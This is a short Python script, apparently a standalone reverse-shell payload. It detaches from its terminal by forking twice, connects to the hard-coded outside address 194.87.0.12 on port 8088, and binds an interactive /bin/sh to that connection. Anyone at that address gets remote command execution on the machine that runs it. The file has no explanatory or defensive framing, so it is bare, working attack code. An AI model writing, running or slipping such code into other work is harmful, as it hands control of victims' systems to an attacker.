import os
import socket
import subprocess
import sys

if os.fork() > 0:
    sys.exit(0)
os.setsid()
if os.fork() > 0:
    sys.exit(0)

conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
conn.connect(("194.87.0.12", 8088))
subprocess.Popen(["/bin/sh", "-i"], stdin=conn, stdout=conn, stderr=conn).wait()
